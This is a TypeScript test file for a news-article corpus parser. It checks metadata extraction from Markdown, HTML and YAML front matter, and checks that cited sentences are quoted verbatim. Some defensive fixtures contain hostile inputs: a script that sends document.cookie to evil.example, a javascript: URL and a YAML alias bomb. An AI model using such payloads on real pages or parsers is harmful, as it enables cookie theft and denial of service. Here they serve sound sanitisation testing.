/**
 * Markdown, HTML and YAML front matter: metadata from each format, markup removed
 * from the visible text, and every citation-able sentence quotable verbatim.
 */
import { afterAll, describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { loadCorpus, parseArticle } from '../src/corpus/load.js';
import { runCommand } from '../src/engines/index.js';
import { quoteOf } from '../src/corpus/html.js';
import { isVerbatim } from '../src/corpus/verbatim.js';
import type { Article } from '../src/types.js';
import { cleanupTempDirs, depsFor, nonVerbatim, writeCorpus } from './helpers/corpus-fixtures.js';

afterAll(cleanupTempDirs);

const squash = (s: string) => s.replace(/\s+/g, '');

const MD_BODY = `# A Markdown Headline About Flooding

By Jordan Price

March 3, 2024

The river rose two meters overnight and flooded forty homes in the lower valley, officials said.

> "We have never seen water this high," said mayor Ana Ruiz.

## What happens next

- Schools are closed on Tuesday.
- The shelter at the gym has room for 200 people.

Follow us on Facebook and Twitter for updates.

Read more at: https://www.valleycourier.example/news/flood-2024
`;

const FRONT = `---
title: Front Matter Title Wins
date: 2024-02-01
author: Sam Lee
outlet: The Valley Courier
url: https://valleycourier.example/story
---
`;

const HTML = `<!doctype html>
<html><head>
<title>Harbor Bridge Closes for Repairs | Coast Gazette</title>
<meta property="og:site_name" content="Coast Gazette">
<meta property="article:published_time" content="2024-03-14T08:30:00Z">
<meta name="author" content="Dana Whitfield">
<style>p { color: red; } .hidden-style-marker { display:none }</style>
<script>var tracking = "Engineers found cracks in the script block.";</script>
</head>
<body>
<nav><a href="/">Home</a> | <a href="/news">News</a> Subscribe to our newsletter for daily bridge updates today.</nav>
<article>
<h1>Harbor Bridge Closes for Repairs</h1>
<p>The Harbor Bridge will close for <em>six weeks</em> starting Monday, the city&#39;s transport office said.</p>
<p>Engineers found <strong>three cracked</strong> support beams during an inspection in <a href="/feb">February</a>. Repairs will cost &pound;4.2 million &amp; take until late April.</p>
<p>&ldquo;Safety comes first,&rdquo; said transport director Lena Ortiz. Traffic will be diverted through the tunnel.</p>
<!-- <p>A commented-out paragraph that must never be quoted.</p> -->
</article>
<aside>Most read: Ten things to do this weekend in the harbor district.</aside>
<footer>Copyright 2024 Coast Gazette. All rights reserved.</footer>
</body></html>
`;

function expectExactOffsets(a: Article): void {
  for (const s of a.sentences) {
    if (a.format === 'html') {
      // Visible text of a sentence = the raw fragments quoteOf joins, minus the joins.
      const q = quoteOf(a, s.start, s.end);
      expect(isVerbatim(a.raw, q), `${s.id}: ${q}`).toBe(true);
      expect(squash(q.replace(/ … /g, ''))).toBe(squash(s.text));
    } else {
      expect(s.text, s.id).toBe(a.raw.slice(s.start, s.end));
      expect(isVerbatim(a.raw, quoteOf(a, s.start, s.end))).toBe(true);
    }
  }
}

describe('markdown articles', () => {
  const a = parseArticle('flood.md', MD_BODY);

  it('infers title (heading marker dropped), byline, date and URL', () => {
    expect(a.format).toBe('md');
    expect(a.title).toBe('A Markdown Headline About Flooding');
    expect(a.author).toBe('Jordan Price');
    expect(a.date).toBe('2024-03-03');
    expect(a.url).toBe('https://www.valleycourier.example/news/flood-2024');
  });

  it('keeps prose, quotes and list items; drops headings, follow prompts and read-more lines', () => {
    const texts = a.sentences.map((s) => s.text);
    expect(texts).toContain('The river rose two meters overnight and flooded forty homes in the lower valley, officials said.');
    expect(texts).toContain('"We have never seen water this high," said mayor Ana Ruiz.');
    expect(texts).toContain('Schools are closed on Tuesday.');
    expect(texts).toContain('The shelter at the gym has room for 200 people.');
    const all = texts.join('\n');
    expect(all).not.toMatch(/What happens next|Follow us|Read more|^#|^>|^- /m);
  });

  it('every sentence is an exact slice of the raw file', () => {
    expectExactOffsets(a);
  });
});

describe('YAML front matter', () => {
  it('overrides every inferred field', () => {
    const a = parseArticle('flood.md', FRONT + MD_BODY);
    expect(a.title).toBe('Front Matter Title Wins');
    expect(a.date).toBe('2024-02-01');
    expect(a.author).toBe('Sam Lee');
    expect(a.outlet).toBe('The Valley Courier');
    expect(a.url).toBe('https://valleycourier.example/story');
    // The body still parses, with offsets into the whole file (front matter included).
    expect(a.sentences.length).toBeGreaterThanOrEqual(4);
    expect(a.sentences.some((s) => /title:|author:|---/.test(s.text))).toBe(false);
    expectExactOffsets(a);
  });

  it('works in a .txt file and accepts alias keys (headline, published, byline, publisher, link)', () => {
    const raw = `---
headline: Alias Keys Headline
published: "14.03.2024"
byline: Kim Park
publisher: Metro Wire
link: https://metrowire.example/a
---
Some Other Title Line Here

Sunday, November 2, 2025

The metro line reopened after a two-day closure caused by a signal fault, the operator said.
`;
    const a = parseArticle('alias.txt', raw);
    expect(a.title).toBe('Alias Keys Headline');
    expect(a.date).toBe('2024-03-14');
    expect(a.author).toBe('Kim Park');
    expect(a.outlet).toBe('Metro Wire');
    expect(a.url).toBe('https://metrowire.example/a');
    expectExactOffsets(a);
  });

  it('partial front matter overrides only the fields it sets', () => {
    const raw = `---
outlet: Partial Outlet
---
Headline For Partial Front Matter Test

By Alex Morgan

5.6.2024

A storm knocked out power to about 3,000 homes on Tuesday night, the utility company said.
`;
    const a = parseArticle('partial.txt', raw);
    expect(a.outlet).toBe('Partial Outlet');
    expect(a.title).toBe('Headline For Partial Front Matter Test');
    expect(a.author).toBe('Alex Morgan');
    expect(a.date).toBe('2024-06-05'); // day-first
  });

  it('only http(s) URLs are taken from front matter or meta tags', () => {
    const body = 'Headline For The URL Test\n\nThe council met on Monday and approved the budget for the next year.\n';
    expect(parseArticle('a.md', `---\nurl: "javascript:alert(1)"\n---\n${body}`).url).toBeNull();
    expect(parseArticle('b.md', `---\nurl: /relative/path\n---\n${body}`).url).toBeNull();
    expect(parseArticle('c.md', `---\nurl: https://ok.example/a\n---\n${body}`).url).toBe('https://ok.example/a');
    const html = `<html><head><link rel="canonical" href="/news/x"><meta property="og:url" content="javascript:void(0)"></head><body><p>The council met on Monday and approved the budget for the next year.</p><p>Read more at: https://site.example/story</p></body></html>`;
    expect(parseArticle('d.html', html).url).toBe('https://site.example/story');
  });

  it('types that are not strings in front matter are ignored; a YAML alias bomb is refused, not expanded', () => {
    const body = 'Headline Here For Types\n\nThe council met on Monday and approved the budget for the next year.\n';
    const a = parseArticle('t.md', `---\ntitle: [1, 2]\ndate: November 5, 2025\nauthor: 42\n---\n${body}`);
    expect(a.title).toBe('Headline Here For Types');
    expect(a.date).toBe('2025-11-05');
    expect(a.author).toBeNull();
    const levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (const [p, q] of [['b', 'a'], ['c', 'b'], ['d', 'c'], ['e', 'd'], ['f', 'e'], ['g', 'f']]) levels.push(`${p}: &${p} [${Array(9).fill(`*${q}`).join(',')}]`);
    const front = `${levels.join('\n')}\ntitle: Bomb Title`;
    // The fixture is a bomb by the parser's own measure (9^7 references), not merely broken YAML.
    expect(() => parseYaml(front)).toThrow(/alias count/i);
    const bomb = parseArticle('bomb.md', `---\n${front}\n---\n${body}`);
    // Refused whole: nothing from that front matter is taken (its title loses to the body's headline).
    // No clock: an expanded bomb would either hang (the test's timeout) or yield "Bomb Title".
    expect(bomb.title).toBe('Headline Here For Types');
    expect(bomb.sentences.length).toBe(1);
  });

  it('broken YAML is ignored, not fatal', () => {
    const raw = `---
title: [unclosed
  : : :
---
Headline After Broken Front Matter

The ferry service resumed on Friday after repairs to the dock were completed ahead of schedule.
`;
    const a = parseArticle('broken-fm.txt', raw);
    expect(a.sentences.length).toBeGreaterThan(0);
    expect(a.title).toBe('Headline After Broken Front Matter');
  });
});

describe('HTML articles', () => {
  const a = parseArticle('bridge.html', HTML);

  it('reads metadata from meta tags (og:site_name, article:published_time, author)', () => {
    expect(a.format).toBe('html');
    expect(a.outlet).toBe('Coast Gazette');
    expect(a.date).toBe('2024-03-14');
    expect(a.author).toBe('Dana Whitfield');
    expect(a.title.startsWith('Harbor Bridge Closes for Repairs')).toBe(true);
  });

  it('drops script, style, nav, aside, footer, comments and tags from the visible text', () => {
    const all = a.sentences.map((s) => s.text).join('\n');
    expect(all).not.toMatch(/tracking|color: red|hidden-style-marker|Subscribe|newsletter|Most read|Copyright|commented-out|<|>/);
    expect(a.sentences.map((s) => s.text)).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^The Harbor Bridge will close for six weeks starting Monday, the city.+s transport office said\.$/),
        'Engineers found three cracked support beams during an inspection in February.',
        'Traffic will be diverted through the tunnel.',
      ]),
    );
  });

  it('every sentence quote (fragments around inline tags) is verbatim and covers the whole sentence', () => {
    expect(a.sentences.length).toBeGreaterThanOrEqual(5);
    expectExactOffsets(a);
    const q = (needle: string) => {
      const s = a.sentences.find((x) => x.text.includes(needle))!;
      return quoteOf(a, s.start, s.end);
    };
    // Inline tags split a quote into fragments, but none is cut short.
    expect(q('close for')).toMatch(/^The Harbor Bridge will close for … six weeks … starting Monday, .*transport office said\.$/);
    expect(q('Engineers found')).toMatch(/^Engineers found … three cracked … support beams during an inspection in … February … ?\.$/);
  });

  // BUG (reported): HTML entities are not decoded in the visible text, so users see
  // "&amp;", "&pound;", "&#39;", "&ldquo;" in answers. Fixing it needs quoteOf/isVerbatim
  // to agree on entity decoding, which is a design change for the corpus owner.
  it.fails('decodes HTML entities in the visible text (&amp; &pound; &#39; &ldquo;)', () => {
    const all = a.sentences.map((s) => s.text).join('\n');
    expect(all).toContain('£4.2 million & take until late April.');
    expect(all).toContain('the city\'s transport office');
    expect(all).toContain('“Safety comes first,” said transport director Lena Ortiz.');
    expect(all).not.toMatch(/&[a-z#0-9]+;/i);
  });

  it('/ask over an HTML and a markdown article cites them verbatim (raw file, not the rendered text)', async () => {
    const dir = writeCorpus({ 'bridge.html': HTML, 'flood.md': MD_BODY });
    const deps = await depsFor(dir);
    const beams = await runCommand(deps, { command: 'ask', text: 'How many support beams were cracked?' });
    expect(beams.answered).toBe(true);
    const c = beams.citations.find((x) => x.source === 'bridge.html')!;
    expect(c).toMatchObject({ outlet: 'Coast Gazette', date: '2024-03-14' });
    expect(squash(c.quote.replace(/ … /g, ''))).toContain(squash('Engineers found three cracked support beams during an inspection in February.'));
    expect(c.quote).not.toMatch(/<|>/);
    const ruiz = await runCommand(deps, { command: 'ask', text: 'What did Ana Ruiz say?' });
    expect(ruiz.answered).toBe(true);
    expect(ruiz.citations.find((x) => x.source === 'flood.md')!.quote).toContain('We have never seen water this high');
    expect(nonVerbatim([...beams.citations, ...ruiz.citations], dir)).toEqual([]);
    const off = await runCommand(deps, { command: 'ask', text: 'Who scored the winning goal?' });
    expect(off.answered).toBe(false);
  });

  it('loads alongside .txt and .md files in one folder', async () => {
    const dir = writeCorpus({
      'bridge.html': HTML,
      'flood.md': MD_BODY,
      'notes.txt': 'Council Notes Headline\n\nThe council approved the new budget of 12 million dollars on Thursday evening.\n',
      'ignored.json': '{"not": "an article"}',
      '.hidden.txt': 'A hidden file that must not be loaded as an article at all, ever.\n',
    });
    const c = await loadCorpus(dir);
    expect(c.articles.map((x) => x.id).sort()).toEqual(['bridge.html', 'flood.md', 'notes.txt']);
    expect(c.articles.map((x) => x.format).sort()).toEqual(['html', 'md', 'txt']);
    expect(c.warnings).toEqual([]);
  });
});

describe('a page saved as .txt', () => {
  // A page's paragraphs copied with their markup into a .txt file: one line of <p>…</p>. Read as text it has no
  // sentence, and the file was dropped from the corpus; it is the HTML it is.
  const RAW = '<p>The Harbor Bridge will close for six weeks starting Monday, the transport office said.</p><p>Engineers found three cracked support beams in February.</p>';

  it('is read as HTML: its paragraphs are sentences, without tags, each quotable verbatim', () => {
    const a = parseArticle('bridge-page.txt', RAW);
    expect(a.format).toBe('html');
    expect(a.sentences.map((s) => s.text)).toEqual([
      'The Harbor Bridge will close for six weeks starting Monday, the transport office said.',
      'Engineers found three cracked support beams in February.',
    ]);
    for (const s of a.sentences) expect(isVerbatim(RAW, quoteOf(a, s.start, s.end))).toBe(true);
  });

  it('hostile markup saved as .txt: scripts and styles are dropped, broken tags lose no text', () => {
    const raw = '<div><script>fetch("http://evil.example/?"+document.cookie)</script><style>p{display:none}</style><p>@everyone The quay reopened on Friday, the harbour office said.</p><p>Ships queued for <b>six hours before the gates opened.</div>';
    const a = parseArticle('page.txt', raw);
    expect(a.format).toBe('html');
    const all = a.sentences.map((s) => s.text).join('\n');
    expect(all).not.toMatch(/evil\.example|cookie|display:none|<\/?\w/);
    expect(all).toContain('The quay reopened on Friday, the harbour office said.');
    expect(all).toContain('Ships queued for six hours before the gates opened.');
    for (const s of a.sentences) expect(isVerbatim(raw, quoteOf(a, s.start, s.end))).toBe(true);
  });

  it('plain text that mentions a tag, or opens with one and never closes a block, stays text', () => {
    expect(parseArticle('notes.txt', 'Use the <p> tag for paragraphs.\n\nThat is all.').format).toBe('txt');
    expect(parseArticle('odd.txt', '<p>One line of text that never closes its paragraph.\n\nAnother line.').format).toBe('txt');
  });
});
